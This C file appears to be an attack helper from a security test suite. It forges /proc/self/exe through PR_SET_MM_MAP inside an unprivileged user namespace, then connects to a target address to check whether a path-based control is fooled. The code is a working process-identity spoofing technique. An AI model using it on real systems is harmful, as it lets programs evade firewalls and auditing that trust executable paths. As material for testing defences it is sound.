/* SPDX-License-Identifier: Apache-2.0 */
/*
 * forge_exe self|child UID FORGED ADDRESS PORT [wait]
 *
 * Makes /proc/self/exe show FORGED by PR_SET_MM_MAP, which wants a capability
 * that any user has in a user namespace of its own, then connects.
 * self: enters that namespace itself. child: a child that shares this memory
 * (CLONE_VM|CLONE_NEWUSER) does it; this process stays in the initial one.
 * Prints `pid=… exe=…` as /proc shows it, with `wait` waits for a line on standard
 * input, connects, and prints the attempt's line.
 */
#include <fcntl.h>
#include <limits.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#include "tests/support/attacks/attack.h"

#define RANGES_MAX 16

struct range {
  unsigned long start, end;
  int protection;
};

static struct prctl_mm_map layout;

/*
 * The kernel refuses to change the link while anything of the old file is
 * mapped (kernel/sys.c, replace_mm_exe_file): put anonymous copies in its place.
 */
static void leave_own_file(void) {
  char own[PATH_MAX];
  char line[PATH_MAX + 128];
  struct range ranges[RANGES_MAX];
  int count = 0;
  ssize_t bytes = readlink("/proc/self/exe", own, sizeof(own) - 1);
  if (bytes < 0) attack_fail("/proc/self/exe");
  own[bytes] = 0;
  FILE* maps = fopen("/proc/self/maps", "r");
  if (maps == NULL) attack_fail("/proc/self/maps");
  while (fgets(line, sizeof(line), maps) != NULL) {
    char permissions[5];
    char path[PATH_MAX] = "";
    unsigned long start, end;
    if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %4095s", &start, &end, permissions, path) < 3 ||
        strcmp(path, own) != 0 || count == RANGES_MAX) {
      continue;
    }
    ranges[count].start = start;
    ranges[count].end = end;
    ranges[count].protection = (permissions[0] == 'r' ? PROT_READ : 0) |
                               (permissions[1] == 'w' ? PROT_WRITE : 0) |
                               (permissions[2] == 'x' ? PROT_EXEC : 0);
    count++;
  }
  fclose(maps);
  for (int i = 0; i < count; i++) {
    size_t length = ranges[i].end - ranges[i].start;
    void* place = (void*)(uintptr_t)ranges[i].start;
    char* copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) attack_fail("mmap");
    memcpy(copy, place, length);
    if (mprotect(copy, length, ranges[i].protection) != 0) attack_fail("mprotect");
    if (mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, place) == MAP_FAILED) {
      attack_fail("mremap");
    }
  }
}

/* proc(5), /proc/PID/stat: fields 26 to 28 and 45 to 51. */
static void read_layout(int forged) {
  char text[2048];
  unsigned long field[53] = {0};
  FILE* stat = fopen("/proc/self/stat", "r");
  if (stat == NULL) attack_fail("/proc/self/stat");
  size_t bytes = fread(text, 1, sizeof(text) - 1, stat);
  fclose(stat);
  text[bytes] = 0;
  int number = 3;
  for (char* item = strtok(strrchr(text, ')') + 2, " "); item != NULL && number < 53;
       item = strtok(NULL, " ")) {
    field[number++] = strtoul(item, NULL, 10);
  }
  layout = (struct prctl_mm_map){.start_code = field[26],
                                 .end_code = field[27],
                                 .start_data = field[45],
                                 .end_data = field[46],
                                 .start_brk = field[47],
                                 .brk = (uintptr_t)sbrk(0),
                                 .start_stack = field[28],
                                 .arg_start = field[48],
                                 .arg_end = field[49],
                                 .env_start = field[50],
                                 .env_end = field[51],
                                 .exe_fd = (unsigned)forged};
}

static int forge(void* unused) {
  (void)unused;
  return syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &layout, sizeof(layout), 0) == 0 ? 0 : errno;
}

/* As an exit status: the child has no use for the parent's stdio. */
static int forge_and_exit(void* unused) {
  syscall(SYS_exit, forge(unused));
  return 0;
}

int main(int argc, char** argv) {
  static char stack[64 * 1024] __attribute__((aligned(16)));
  if (argc < 6 || argc > 7 || (strcmp(argv[1], "self") != 0 && strcmp(argv[1], "child") != 0)) {
    fputs("usage: forge_exe self|child UID FORGED ADDRESS PORT [wait]\n", stderr);
    return 2;
  }
  uid_t uid = (uid_t)atoi(argv[2]);
  union attack_address address = attack_parse(argv[4], atoi(argv[5]));
  alarm(60);
  if (uid != getuid()) attack_become(uid, uid);
  prctl(PR_SET_DUMPABLE, 1);
  int forged = open(argv[3], O_RDONLY | O_CLOEXEC);
  if (forged < 0) attack_fail(argv[3]);
  leave_own_file();
  read_layout(forged);
  int error;
  if (strcmp(argv[1], "self") == 0) {
    if (unshare(CLONE_NEWUSER) != 0) attack_fail("unshare(CLONE_NEWUSER)");
    error = forge(NULL);
  } else {
    pid_t child = clone(forge_and_exit, stack + sizeof(stack),
                        CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, NULL);
    if (child < 0) attack_fail("clone");
    int status = 0;
    if (waitpid(child, &status, 0) != child) attack_fail("waitpid");
    error = WIFEXITED(status) ? WEXITSTATUS(status) : ECHILD;
  }
  if (error != 0) {
    errno = error;
    attack_fail("PR_SET_MM_MAP");
  }
  char shown[PATH_MAX];
  ssize_t bytes = readlink("/proc/self/exe", shown, sizeof(shown) - 1);
  if (bytes < 0) attack_fail("/proc/self/exe");
  shown[bytes] = 0;
  printf("pid=%d exe=%s\n", getpid(), shown);
  fflush(stdout);
  if (argc == 7 && read(STDIN_FILENO, shown, sizeof(shown)) < 0) attack_fail("standard input");
  attack_report(&address, attack_connect_once(&address));
  return 0;
}
